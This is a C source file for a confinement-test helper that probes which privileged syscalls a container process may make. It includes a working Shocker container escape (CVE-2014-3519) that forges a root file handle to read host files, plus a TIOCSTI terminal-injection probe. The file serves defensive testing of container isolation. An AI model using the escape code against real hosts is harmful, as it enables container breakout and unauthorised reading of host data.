/*
 * probe: what a container process may do, one line per probe, for the confinement tests
 * (test/integration/confinement*.test.ts). Built static by the tests (`cc -static -O2`) and bound
 * into a container read-only. Every call is a raw syscall() so that no libc wrapper second-guesses
 * it, and everything it makes is undone or dies with it (keys in its process keyring, namespaces
 * and mounts in forked children): it proves a path, it never changes the host.
 *
 *   probe [NAME...]            the syscall probes (all of them without a NAME): "NAME ok [detail]"
 *                              or "NAME ERRNONAME", e.g. "keyctl EPERM", "ptrace ok"
 *   probe rewrite FILE         reads FILE and writes the same bytes back: "rewrite ok" / errno
 *   probe open FILE r|w|rw     opens FILE: "open ok" / errno
 *   probe mount SRC DIR TYPE FLAGS DATA    mount(2); FLAGS a comma list of
 *                              remount,bind,rdonly,nosuid,nodev,noexec,noatime or "-"; DATA "-" for none
 *   probe umount DIR
 *   probe tiocsti FD           pushes a space into the input of the terminal on FD (TIOCSTI):
 *                              "tiocsti ok" / errno; ENOTTY when FD is no terminal
 *   probe whoami               "euid N" (for a copy made setuid-root)
 *   probe shocker FILE PATH    the Shocker escape (CVE-2014-3519 as an exploit): with the mount of
 *                              FILE (a bind of a host file, such as /etc/hosts), open the ROOT of
 *                              the filesystem FILE lives on by a forged handle (ext4's root is
 *                              inode 2, generation 0), then read PATH relative to that root:
 *                              "shocker ok <first line of PATH>" or "shocker <step> ERRNONAME"
 *
 * Exit status: 0 when it could run its probes (whatever they found), 2 on bad usage.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* Kernel ABI spelled out, so that no uapi header is needed. */
#define KEYCTL_GET_KEYRING_ID 0
#define KEY_SPEC_PROCESS_KEYRING -2
#define KEY_SPEC_SESSION_KEYRING -3
#define BPF_MAP_CREATE 0
#define BPF_MAP_TYPE_ARRAY 2
#define PERF_TYPE_SOFTWARE 1
#define PERF_COUNT_SW_CPU_CLOCK 0
#define SYSLOG_ACTION_READ_ALL 3
#define FILEID_INO32_GEN 1
#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#endif
#ifndef SYS_fsopen
#define SYS_fsopen 430
#endif
#ifndef FSOPEN_CLOEXEC
#define FSOPEN_CLOEXEC 1
#endif

struct bpf_map_create_attr {
  uint32_t map_type, key_size, value_size, max_entries, map_flags;
  uint32_t pad[27];
};

struct perf_attr {
  uint32_t type, size;
  uint64_t config, sample_period, sample_type, read_format, flags;
  uint32_t wakeup_events, bp_type;
  uint64_t bp_addr, bp_len, branch_sample_type, sample_regs_user;
  uint32_t sample_stack_user;
  int32_t clockid;
  uint64_t sample_regs_intr;
  uint32_t aux_watermark;
  uint16_t sample_max_stack, reserved2;
  uint32_t aux_sample_size, reserved3;
  uint64_t sig_data, config3;
};

struct handle {
  unsigned int handle_bytes;
  int handle_type;
  unsigned char f_handle[128];
};

static const char *errname(int e) {
  switch (e) {
  case EPERM: return "EPERM";
  case ENOENT: return "ENOENT";
  case ESRCH: return "ESRCH";
  case EIO: return "EIO";
  case ENXIO: return "ENXIO";
  case EBADF: return "EBADF";
  case EAGAIN: return "EAGAIN";
  case ENOMEM: return "ENOMEM";
  case EACCES: return "EACCES";
  case EFAULT: return "EFAULT";
  case EBUSY: return "EBUSY";
  case EEXIST: return "EEXIST";
  case ENODEV: return "ENODEV";
  case ENOTDIR: return "ENOTDIR";
  case EISDIR: return "EISDIR";
  case EINVAL: return "EINVAL";
  case ENOSPC: return "ENOSPC";
  case EROFS: return "EROFS";
  case ENOSYS: return "ENOSYS";
  case ENOEXEC: return "ENOEXEC";
  case EOPNOTSUPP: return "EOPNOTSUPP";
  case ESTALE: return "ESTALE";
  case EOVERFLOW: return "EOVERFLOW";
  case ENOTTY: return "ENOTTY";
  case ETXTBSY: return "ETXTBSY";
  default: {
    static char buf[32];
    snprintf(buf, sizeof buf, "errno%d", e);
    return buf;
  }
  }
}

/* Prints "name ok" or "name ERRNO" for a syscall's result (fds it returns are closed). */
static void report(const char *name, long r, int e, int close_fd) {
  if (r < 0) {
    printf("%s %s\n", name, errname(e));
  } else {
    if (close_fd) close((int)r);
    printf("%s ok\n", name);
  }
}

/* Runs fn in a forked child, which exits with 0 or the errno; reported as above. */
static void in_child(const char *name, int (*fn)(void)) {
  fflush(stdout);
  pid_t pid = fork();
  if (pid < 0) {
    printf("%s fork-%s\n", name, errname(errno));
    return;
  }
  if (pid == 0) _exit(fn() < 0 ? errno : 0);
  int status;
  while (waitpid(pid, &status, 0) < 0 && errno == EINTR) {}
  if (!WIFEXITED(status)) printf("%s killed-by-signal-%d\n", name, WIFSIGNALED(status) ? WTERMSIG(status) : 0);
  else if (WEXITSTATUS(status) == 0) printf("%s ok\n", name);
  else printf("%s %s\n", name, errname(WEXITSTATUS(status)));
}

static void probe_keyctl(void) {
  long r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
  if (r < 0) printf("keyctl %s\n", errname(errno));
  else printf("keyctl ok %ld\n", r);
}

static void probe_add_key(void) {
  /* Into the process keyring: gone when this process is. */
  long r = syscall(SYS_add_key, "user", "mydocker-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING);
  report("add_key", r, errno, 0);
}

static void probe_bpf(void) {
  struct bpf_map_create_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  long r = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
  report("bpf", r, errno, 1);
}

static void probe_perf(void) {
  struct perf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.type = PERF_TYPE_SOFTWARE;
  attr.size = sizeof attr;
  attr.config = PERF_COUNT_SW_CPU_CLOCK;
  attr.flags = 1 /* disabled */ | 1 << 5 /* exclude_kernel */ | 1 << 6 /* exclude_hv */;
  long r = syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
  report("perf_event_open", r, errno, 1);
}

static void probe_userfaultfd(void) {
  long r = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
  report("userfaultfd", r, errno, 1);
}

static int do_unshare(void) { return (int)syscall(SYS_unshare, CLONE_NEWUTS); }

static int do_unshare_user(void) { return (int)syscall(SYS_unshare, CLONE_NEWUSER); }

static int do_clone_newns(void) {
  long r = syscall(SYS_clone, CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);
  if (r == 0) _exit(0);
  if (r < 0) return -1;
  waitpid((pid_t)r, NULL, 0);
  return 0;
}

static int do_clone_newuser(void) {
  long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (r == 0) _exit(0);
  if (r < 0) return -1;
  waitpid((pid_t)r, NULL, 0);
  return 0;
}

/* The new mount API: a filesystem context, dropped unused. */
static void probe_fsopen(void) {
  long r = syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
  report("fsopen", r, errno, 1);
}

static void probe_io_uring(void) {
  uint32_t params[30]; /* struct io_uring_params: 120 bytes */
  memset(params, 0, sizeof params);
  long r = syscall(SYS_io_uring_setup, 1, params);
  report("io_uring_setup", r, errno, 1);
}

static int do_clone3(void) {
  /* struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls */
  uint64_t args[8] = {0, 0, 0, 0, SIGCHLD, 0, 0, 0};
  long r = syscall(SYS_clone3, args, sizeof args);
  if (r == 0) _exit(0);
  if (r < 0) return -1;
  waitpid((pid_t)r, NULL, 0);
  return 0;
}

/* A tmpfs over /dev/shm in a mount namespace of the child's own when it may make one (private,
 * so that nothing propagates out of it). */
static int do_mount(void) {
  if (syscall(SYS_unshare, CLONE_NEWNS) == 0) syscall(SYS_mount, "none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
  if (syscall(SYS_mount, "probe", "/dev/shm", "tmpfs", 0, "size=4k") < 0) return -1;
  syscall(SYS_umount2, "/dev/shm", MNT_DETACH);
  return 0;
}

static int do_personality(void) { return (int)syscall(SYS_personality, 0x0006 /* PER_BSD */); }

static void probe_ptrace(void) {
  fflush(stdout);
  pid_t child = fork();
  if (child == 0) {
    for (;;) pause();
  }
  if (child < 0) {
    printf("ptrace fork-%s\n", errname(errno));
    return;
  }
  long r = syscall(SYS_ptrace, PTRACE_ATTACH, child, 0, 0);
  int e = errno;
  if (r == 0) {
    waitpid(child, NULL, __WALL);
    syscall(SYS_ptrace, PTRACE_DETACH, child, 0, 0);
  }
  kill(child, SIGKILL);
  waitpid(child, NULL, __WALL);
  report("ptrace", r, e, 0);
}

static void probe_syslog(void) {
  static char buf[4096];
  long r = syscall(SYS_syslog, SYSLOG_ACTION_READ_ALL, buf, (int)sizeof buf);
  report("syslog", r, errno, 0);
}

/* Harmless whatever the privileges: the check of the capability comes before the magic's. */
static void probe_reboot(void) {
  long r = syscall(SYS_reboot, 0, 0, 0, NULL);
  report("reboot", r, errno, 0);
}

/* The capability check comes before the lookup of the path, which does not exist. */
static void probe_swapon(void) {
  long r = syscall(SYS_swapon, "/nonexistent-probe-swap", 0);
  report("swapon", r, errno, 0);
}

/* ENOSYS for everyone on a kernel without modules, ENOEXEC (an empty image) on one with them, unless
   a seccomp filter or a missing CAP_SYS_MODULE answers first. */
static void probe_init_module(void) {
  long r = syscall(SYS_init_module, NULL, 0, "");
  report("init_module", r, errno, 0);
}

static void probe_name_to_handle_at(void) {
  struct handle h;
  int mount_id;
  h.handle_bytes = sizeof h.f_handle;
  long r = syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/hosts", &h, &mount_id, 0);
  report("name_to_handle_at", r, errno, 0);
}

static void probe_open_by_handle_at(void) {
  /* A forged handle of ext4's root: the call fails on the capability or the filter before it
   * looks at the handle. */
  struct handle h;
  memset(&h, 0, sizeof h);
  h.handle_bytes = 8;
  h.handle_type = FILEID_INO32_GEN;
  uint32_t ino = 2, gen = 0;
  memcpy(h.f_handle, &ino, 4);
  memcpy(h.f_handle + 4, &gen, 4);
  int mfd = open("/etc/hosts", O_RDONLY | O_CLOEXEC);
  long r = syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int e = errno;
  if (mfd >= 0) close(mfd);
  report("open_by_handle_at", r, e, 1);
}

struct syscall_probe {
  const char *name;
  void (*run)(void);
  int (*child)(void);
};

static const struct syscall_probe PROBES[] = {
  {"keyctl", probe_keyctl, NULL},
  {"add_key", probe_add_key, NULL},
  {"bpf", probe_bpf, NULL},
  {"perf_event_open", probe_perf, NULL},
  {"userfaultfd", probe_userfaultfd, NULL},
  {"unshare", NULL, do_unshare},
  {"unshare_user", NULL, do_unshare_user},
  {"clone_newns", NULL, do_clone_newns},
  {"clone_newuser", NULL, do_clone_newuser},
  {"clone3", NULL, do_clone3},
  {"fsopen", probe_fsopen, NULL},
  {"io_uring_setup", probe_io_uring, NULL},
  {"mount", NULL, do_mount},
  {"personality", NULL, do_personality},
  {"ptrace", probe_ptrace, NULL},
  {"syslog", probe_syslog, NULL},
  {"reboot", probe_reboot, NULL},
  {"swapon", probe_swapon, NULL},
  {"init_module", probe_init_module, NULL},
  {"name_to_handle_at", probe_name_to_handle_at, NULL},
  {"open_by_handle_at", probe_open_by_handle_at, NULL},
};
#define NPROBES (sizeof PROBES / sizeof PROBES[0])

static int run_probe(const char *name) {
  for (unsigned i = 0; i < NPROBES; i++) {
    if (strcmp(PROBES[i].name, name) != 0) continue;
    if (PROBES[i].run) PROBES[i].run();
    else in_child(PROBES[i].name, PROBES[i].child);
    return 0;
  }
  fprintf(stderr, "probe: no probe %s\n", name);
  return 2;
}

static int rewrite(const char *file) {
  static char buf[1 << 16];
  int fd = open(file, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return printf("rewrite open-%s\n", errname(errno)), 0;
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  if (n < 0) return printf("rewrite read-%s\n", errname(errno)), 0;
  fd = open(file, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return printf("rewrite %s\n", errname(errno)), 0;
  /* A sysctl takes its value in one write; an empty file takes an empty write. */
  ssize_t w = write(fd, buf, (size_t)n);
  int e = errno;
  close(fd);
  if (w < 0) printf("rewrite %s\n", errname(e));
  else printf("rewrite ok %zd\n", w);
  return 0;
}

static int open_file(const char *file, const char *mode) {
  int flags = strcmp(mode, "r") == 0 ? O_RDONLY : strcmp(mode, "w") == 0 ? O_WRONLY : O_RDWR;
  long r = syscall(SYS_openat, AT_FDCWD, file, flags | O_CLOEXEC);
  report("open", r, errno, 1);
  return 0;
}

static unsigned long mount_flags(const char *list) {
  static const struct {
    const char *name;
    unsigned long flag;
  } known[] = {{"remount", MS_REMOUNT}, {"bind", MS_BIND}, {"rdonly", MS_RDONLY}, {"nosuid", MS_NOSUID}, {"nodev", MS_NODEV}, {"noexec", MS_NOEXEC}, {"noatime", MS_NOATIME}};
  unsigned long flags = 0;
  char copy[256];
  snprintf(copy, sizeof copy, "%s", list);
  for (char *tok = strtok(copy, ","); tok; tok = strtok(NULL, ",")) {
    for (unsigned i = 0; i < sizeof known / sizeof known[0]; i++)
      if (strcmp(tok, known[i].name) == 0) flags |= known[i].flag;
  }
  return flags;
}

static int do_mount_cmd(char **argv) {
  const char *data = strcmp(argv[4], "-") == 0 ? NULL : argv[4];
  long r = syscall(SYS_mount, argv[0], argv[1], argv[2], mount_flags(argv[3]), data);
  report("mount", r, errno, 0);
  return 0;
}

static int shocker(const char *file, const char *path) {
  struct handle own;
  int mount_id;
  own.handle_bytes = sizeof own.f_handle;
  /* The type of handle the filesystem gives (ext4: FILEID_INO32_GEN, {inode, generation}). */
  int type = FILEID_INO32_GEN;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, file, &own, &mount_id, 0) == 0) type = own.handle_type;
  struct handle root;
  memset(&root, 0, sizeof root);
  root.handle_bytes = 8;
  root.handle_type = type;
  uint32_t ino = 2, gen = 0;
  memcpy(root.f_handle, &ino, 4);
  memcpy(root.f_handle + 4, &gen, 4);
  int mfd = open(file, O_RDONLY | O_CLOEXEC);
  if (mfd < 0) return printf("shocker open-%s\n", errname(errno)), 0;
  long rootfd = syscall(SYS_open_by_handle_at, mfd, &root, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (rootfd < 0) return printf("shocker open_by_handle_at-%s\n", errname(errno)), 0;
  int fd = openat((int)rootfd, path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return printf("shocker openat-%s\n", errname(errno)), 0;
  char buf[512];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n < 0) return printf("shocker read-%s\n", errname(errno)), 0;
  buf[n] = '\0';
  buf[strcspn(buf, "\n")] = '\0';
  printf("shocker ok %s\n", buf);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc >= 2 && strcmp(argv[1], "rewrite") == 0) return argc == 3 ? rewrite(argv[2]) : 2;
  if (argc >= 2 && strcmp(argv[1], "open") == 0) return argc == 4 ? open_file(argv[2], argv[3]) : 2;
  if (argc >= 2 && strcmp(argv[1], "mount") == 0) return argc == 7 ? do_mount_cmd(argv + 2) : 2;
  if (argc >= 2 && strcmp(argv[1], "umount") == 0) {
    if (argc != 3) return 2;
    long r = syscall(SYS_umount2, argv[2], 0);
    report("umount", r, errno, 0);
    return 0;
  }
  if (argc == 3 && strcmp(argv[1], "tiocsti") == 0) {
    char c = ' ';
    long r = syscall(SYS_ioctl, atoi(argv[2]), TIOCSTI, &c);
    report("tiocsti", r, errno, 0);
    return 0;
  }
  if (argc == 2 && strcmp(argv[1], "whoami") == 0) return printf("euid %ld\n", (long)syscall(SYS_geteuid)), 0;
  if (argc >= 2 && strcmp(argv[1], "shocker") == 0) return argc == 4 ? shocker(argv[2], argv[3]) : 2;
  if (argc == 1) {
    for (unsigned i = 0; i < NPROBES; i++) run_probe(PROBES[i].name);
    return 0;
  }
  for (int i = 1; i < argc; i++)
    if (run_probe(argv[i]) != 0) return 2;
  return 0;
}
